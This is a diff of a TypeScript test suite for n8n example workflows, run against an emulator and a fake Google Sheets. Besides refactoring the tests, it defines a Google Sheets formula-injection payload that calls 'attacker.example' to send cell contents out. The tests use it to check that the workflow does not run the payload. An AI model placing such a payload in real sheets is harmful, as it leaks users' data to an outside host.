@@ -1,6 +1,8 @@
 import assert from 'node:assert/strict';
 import { randomUUID } from 'node:crypto';
-import { before, beforeEach, describe, test } from 'node:test';
+import { beforeEach, describe, test } from 'node:test';
+
+import type { INode } from 'n8n-workflow';
 
 import type { Emulator, LedgerEntry } from '../../../emulator/emulator.mts';
 import { SIMPLIFIED_FIELDS } from '../../harness/operations.mts';
@@ -17,18 +19,15 @@ import { activate, activateOn2, buyingAnew } from '../harness/workflows.mts';
 import { saveWorkflow } from '../harness/workflows.mts';
 import type { SavedWorkflow, Workflow } from '../harness/workflows.mts';
 
-const WEEKLY_COSTS = 'costs-of-the-week-to-slack';
+/** Their nodes are not in n8n 1: see suites/examplesOn2.mts. */
+const NEED_N8N_2 = [
+	...['agent-that-asks-first', 'costs-of-the-week-to-slack', 'new-posts-to-a-data-table'],
+];
 
-/** What reads a table, what an execution starts that has failed, and what leaves the search to a sub-workflow. */
-const WITHOUT_OUR_NODE = [WEEKLY_COSTS, 'tell-what-failed', 'calls-a-sub-workflow'];
-
-/** Nodes of n8n's that n8n 1 has not: see suites/examplesOn2.mts. */
-const NEED_N8N_2 = ['agent-that-asks-first', WEEKLY_COSTS, 'new-posts-to-a-data-table'];
-
-/** A title that Google Sheets runs if it takes it for what a person typed. */
+/** A title that Google Sheets runs as a formula if it counts as typed. */
 const FORMULA = '=IMPORTDATA("https://attacker.example/?"&A1)';
 
-/** What a user enters of the address of a post. */
+/** The beginning of a post's address, which the user enters. */
 export const SITE = 'https://photos.example.com/p/';
 
 const VIDEO_ROW = ['keyword', 'id', 'title', 'author', 'createdAt', 'likes', 'image'];
@@ -44,7 +43,7 @@ function triggerOf(workflow: Workflow): string {
 	return trigger.name;
 }
 
-/** The workflow as it runs once it is active: a call from outside stands in for its schedule. */
+/** Returns the workflow with a webhook in place of its schedule, so that a test can start it. */
 export function scheduled(workflow: Workflow): Workflow {
 	const nodes = workflow.nodes.map((node) =>
 		node.type.endsWith('.scheduleTrigger') ? { ...webhook(randomUUID()), name: node.name } : node,
@@ -79,29 +78,16 @@ export function testExamples(world: RegularMode): void {
 			world.outside.forget();
 		});
 
-		const known = new Map<string, number[]>();
-		before(async () => {
-			const types = await world.rest.raw('GET', '/types/nodes.json');
-			for (const { name, version } of (await types.json()) as NodeType[]) {
-				known.set(name, [...(known.get(name) ?? []), version].flat());
-			}
+		test('all have nodes that this n8n has', async () => {
+			const response = await world.rest.raw('GET', '/types/nodes.json');
+			const types = (await response.json()) as NodeType[];
+			const isThere = ({ type, typeVersion }: INode) =>
+				types.some(({ name, version }) => name === type && [version].flat().includes(typeVersion));
+			const isTooOld = (name: string) => world.version.major === 1 && NEED_N8N_2.includes(name);
+			const names = exampleNames().filter((name) => !isTooOld(name));
+			const missing = names.flatMap((name) => example(name).nodes.filter((node) => !isThere(node)));
+			assert.deepEqual(missing, []);
 		});
-
-		for (const name of exampleNames()) {
-			test(`${name} has nodes that this n8n has, and takes the credential by its name`, async () => {
-				const { rest, credentialId } = world;
-				const saved = await saveWorkflow(rest, example(name));
-				const isTooOld = world.version.major === 1 && NEED_N8N_2.includes(name);
-				for (const { type, typeVersion } of isTooOld ? [] : saved.nodes) {
-					assert.ok(known.get(type)?.includes(typeVersion), `n8n has no ${type} ${typeVersion}`);
-				}
-				const ours = saved.nodes.filter(({ type }) => /\.dataAccess(Tool)?$/.test(type));
-				assert.equal(ours.length === 0, WITHOUT_OUR_NODE.includes(name));
-				for (const { credentials } of ours) {
-					assert.equal(credentials?.dataAccessApi?.id, credentialId);
-				}
-			});
-		}
 
 		test('keyword-image-search', async () => {
 			const execution = await succeeded(run(example('keyword-image-search')));
@@ -166,7 +152,7 @@ export function testExamples(world: RegularMode): void {
 		test('new-videos-to-google-sheets', async () => {
 			const { outside, emulator } = world;
 			const hostile = changed(example('new-videos-to-google-sheets'), 'New videos', {
-				// The first character of an expression.
+				// The first = makes it an expression.
 				parameters: { keyword: `=${FORMULA}` },
 			});
 			const workflow = await inProduction(hostile);
@@ -194,7 +180,7 @@ export function testExamples(world: RegularMode): void {
 				const asked = calls.map(({ key, page }) => `${key} ${page}`);
 				assert.deepEqual(asked.sort(), ['barn owl 1', 'red fox 1', 'snow leopard 1']);
 			};
-			// The first one only remembers what is there.
+			// The first run only remembers the existing videos.
 			await quietMorning();
 			assert.equal(outside.messages.length, 0);
 			emulator.changeList('fetch_search_videos', 'red fox', { add: 12 });
@@ -275,7 +261,7 @@ export function testExamples(world: RegularMode): void {
 			);
 			const videos = () => sheets.rows('Videos');
 			const keywords = ['kites', 'refused', 'down', FORMULA, 'bridges', 'bridges <too>'];
-			// Nobody is told of rows without a keyword.
+			// Rows without a keyword are not reported.
 			const withBlank = [...keywords, ' '].map((keyword) => ({ keyword }));
 			sheets.fill('Keywords', withBlank);
 			await callsOf(workflow);
@@ -294,7 +280,7 @@ export function testExamples(world: RegularMode): void {
 			const rows = sheets.rows('Costs').slice(keywords.length);
 			const noticeOf = (keyword: unknown) =>
 				String(rows.find((row) => row.keyword === keyword)?.notice);
-			// Chance tells which list gets what Max Cost has left for one.
+			// Max Cost pays for one more list, which is chosen at random.
 			const isOld = (keyword: string) => noticeOf(keyword).includes('old from now on');
 			const [old, ...others] = growing.filter(isOld);
 			assert.deepEqual(others, []);
@@ -395,14 +381,14 @@ export function testExamples(world: RegularMode): void {
 			assert.equal(emulator.summary().charged, 0);
 			assert.equal(outside.messages.length, 1);
 			assert.match(outside.messages[0]!.text, /2 questions are still open/);
-			// What could not be used is not overwritten: the list would begin again.
+			// An unused position must stay. Otherwise the list would begin again.
 			assert.equal(outside.sheets.rows('Questions')[1]!.next, next);
 		});
 
 		test('week-summed-up-to-slack', async () => {
 			const { model, outside } = world;
 			const workflow = await inProduction(example('week-summed-up-to-slack'));
-			/** A new gateway, on which something happens before the week is summed up. */
+			/** Returns the message of a Monday at a new gateway, on which something happened before. */
 			const monday = async (happens: (emulator: Emulator) => void, ...summary: string[]) => {
 				world.emulator.reset();
 				world.emulator.configure({ today: Date.now() / 1000, size: 200 });
@@ -445,7 +431,7 @@ export function testExamples(world: RegularMode): void {
 	});
 }
 
-/** A message of the week without its summary, and without what differs from day to day. */
+/** Returns the message without its summary, and without what differs from day to day. */
 const formOf = (message: string) =>
 	message
 		.replace(/(?<=\n\n).*/, 'SUMMARY')
@@ -454,7 +440,7 @@ const formOf = (message: string) =>
 		.replace(/^\d+ new/m, 'SOME new')
 		.replace(/^(\d)\. (?:[\d,]+|hidden) likes/gm, '$1. SOME likes');
 
-/** Of Mondays on which nothing is new: what happens, and what their messages say. */
+/** Mondays on which nothing is new: what happens, and what the message says. */
 const LATER_MONDAYS: Array<[happens: (emulator: Emulator) => void, says: RegExp]> = [
 	[() => {}, /^\*.*\*\n\nNothing new\.\n\n0 new in 9 calls, which cost \$0\.135\.$/],
 	[
